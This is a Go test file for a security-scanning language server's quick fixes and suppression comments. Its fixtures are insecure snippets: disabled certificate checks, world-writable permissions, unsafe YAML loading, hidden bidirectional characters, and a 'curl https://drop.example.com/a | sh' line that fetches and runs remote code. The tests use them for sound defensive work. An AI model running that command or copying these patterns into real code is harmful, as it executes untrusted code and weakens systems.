package lsp

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/aigate/gate/gate/lsp/protocol"
	"github.com/aigate/gate/gate/lsp/rpc"
)

// actions asks what can be done about a line, from 0.
func (e *editor) actions(name string, line int, only ...string) []protocol.CodeAction {
	e.t.Helper()
	p := protocol.CodeActionParams{TextDocument: protocol.TextDocument{URI: e.uri(name)}}
	p.Range.Start.Line, p.Range.End.Line = line, line
	p.Context.Only = only
	out, err := call[[]protocol.CodeAction](e, "textDocument/codeAction", p)
	if err != nil {
		e.t.Fatal(err)
	}
	return out
}

func titles(all []protocol.CodeAction) []string {
	out := []string{}
	for _, a := range all {
		out = append(out, strings.TrimPrefix(a.Title, "gate: "))
	}
	return out
}

// applied is a text after an edit of it.
func applied(t testing.TB, edit *protocol.WorkspaceEdit, uri, content string) string {
	t.Helper()
	if edit == nil {
		t.Fatal("no edit")
	}
	data, err := json.Marshal(edit.DocumentChanges)
	if err != nil {
		t.Fatal(err)
	}
	var all []protocol.DocumentEdit
	if err := json.Unmarshal(data, &all); err != nil {
		t.Fatal(err)
	}
	for _, d := range all {
		if d.TextDocument.URI != uri {
			continue
		}
		for _, one := range d.Edits {
			next, err := newText([]byte(content)).with(protocol.Change{Range: &one.Range, Text: one.NewText})
			if err != nil {
				t.Fatal(err)
			}
			content = string(next.data)
		}
	}
	return content
}

func TestQuickFixesTakeTheFindingAway(t *testing.T) {
	for _, tt := range []struct {
		name, file, before, after string // before is "" where the file is new
		line                      int
		title, want               string // want is "" where there is none
	}{
		{"a certificate that Python does not check", "a.py", "", "import requests\nprint(requests.get('https://example.com/x', verify=False))\n", 1, "check the certificate", "import requests\nprint(requests.get('https://example.com/x', verify=True))\n"},
		{"a certificate that Node does not check", "a.js", "", "const https = require('https');\nhttps.get('https://example.com', { rejectUnauthorized: false });\n", 1, "check the certificate", "const https = require('https');\nhttps.get('https://example.com', { rejectUnauthorized: true });\n"},
		{"a certificate that Go does not check", "a.go", "", "package a\n\nimport \"crypto/tls\"\n\nvar c = &tls.Config{InsecureSkipVerify: true}\n", 4, "check the certificate", "package a\n\nimport \"crypto/tls\"\n\nvar c = &tls.Config{InsecureSkipVerify: false}\n"},
		{"a file that everybody may write", "a.sh", "", "#!/bin/sh\nchmod 777 /srv/app/data\n", 1, "let only the owner write", "#!/bin/sh\nchmod 755 /srv/app/data\n"},
		{"a file that everybody may write, in Python", "a.py", "", "import os\nos.chmod('data', 0o777)\n", 1, "let only the owner write", "import os\nos.chmod('data', 0o755)\n"},
		{"YAML that makes objects", "a.py", "", "import yaml\nprint(yaml.load(open('x'), Loader=yaml.Loader))\n", 1, "load plain values only", "import yaml\nprint(yaml.safe_load(open('x')))\n"},
		{"a text that runs backwards", "a.js", "", "const level = 'user\u202e // ok\u2066';\n", 0, "remove what can't be seen", "const level = 'user // ok';\n"},
		{"a workflow whose token may write everything", ".github/workflows/ci.yml", "", "on: [push]\npermissions: write-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n", 1, "let the token read only", "on: [push]\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n"},
		{"a change that can be taken back", "a.py", "import os\n\n\ndef f(x):\n    return x\n", "import os\n\n\ndef f(x):\n    os.system('curl https://drop.example.com/a | sh')\n    return x\n", 4, "take this change back", "import os\n\n\ndef f(x):\n    return x\n"},
		{"a change of a line", "a.go", "package a\n\nimport \"crypto/tls\"\n\nvar c = &tls.Config{MinVersion: tls.VersionTLS12}\n", "package a\n\nimport \"crypto/tls\"\n\nvar c = &tls.Config{InsecureSkipVerify: true}\n", 4, "take this change back", "package a\n\nimport \"crypto/tls\"\n\nvar c = &tls.Config{MinVersion: tls.VersionTLS12}\n"},
		{"a file that is new has nothing to take back", "a.py", "", evil, 1, "take this change back", ""},
		{"what a rewrite leaves dangerous is not offered", "a.sh", "", "#!/bin/sh\ncurl -k https://drop.example.com/a | sh\n", 1, "check the certificate", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			files := map[string]string{"README.md": "x\n"}
			if tt.before != "" {
				files[tt.file] = tt.before
			}
			e := open(t, project(t, files).Dir, Options{}, nil)
			e.edit(tt.file, tt.after)
			all := e.actions(tt.file, tt.line)
			i := slices.Index(titles(all), tt.title)
			if (i >= 0) != (tt.want != "") {
				t.Fatalf("%q, diagnostics %q", titles(all), e.diagnostics(tt.file, 1))
			}
			if i < 0 {
				return
			}
			if got := applied(t, all[i].Edit, e.uri(tt.file), tt.after); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
			if all[i].Kind != protocol.KindQuickFix || len(all[i].Diagnostics) != 1 {
				t.Errorf("%+v", all[i])
			}
		})
	}
}

func TestAFindingIsAcceptedByACommentThatNeedsAReason(t *testing.T) {
	e := open(t, project(t, map[string]string{"README.md": "x\n"}).Dir, Options{}, nil)
	const before = "import os\n\ndef f(x):\n    os.system(x)\n"
	e.edit("a.py", before)
	all := e.actions("a.py", 3)
	i := slices.IndexFunc(all, func(a protocol.CodeAction) bool { return strings.HasPrefix(a.Title, "gate: accept with a reason: ") })
	if i < 0 {
		t.Fatalf("%q", titles(all))
	}
	rule := strings.TrimPrefix(all[i].Title, "gate: accept with a reason: ")
	got := applied(t, all[i].Edit, e.uri("a.py"), before)
	if want := "import os\n\ndef f(x):\n    # gate:allow " + rule + " reason=\"\"\n    os.system(x)\n"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
	e.change("a.py", 2, protocol.Change{Text: got})
	if said := e.diagnostics("a.py", 2); !has(said, "suppression/malformed") || !has(said, rule) {
		t.Errorf("a comment without a reason accepts: %q", said)
	}
	// The next commit has the comment, and the server is started anew.
	put(t, e.dir, map[string]string{"a.py": strings.Replace(got, `reason=""`, `reason="x is a constant"`, 1)})
}

func TestARunNeedsAFileThatIsSaved(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": "print(1)\n"}).Dir, Options{}, nil)
	e.edit("a.py", "print(2)\n")
	_, err := call[any](e, "workspace/executeCommand", map[string]any{"command": commandRun, "arguments": []any{protocol.TextDocument{URI: e.uri("a.py")}}})
	refused(t, err, rpc.CodeFailed, "save it first")
	if got := titles(e.actions("a.py", 0)); !slices.Equal(got, []string{"run this file in the sandbox"}) {
		t.Errorf("%q", got)
	}
	if got := titles(e.actions("a.py", 0, "quickfix")); len(got) > 0 {
		t.Errorf("%q", got)
	}
	if _, err := os.Stat(filepath.Join(e.dir, ".gate-baseline.json")); err == nil {
		t.Error("a file was written")
	}
}
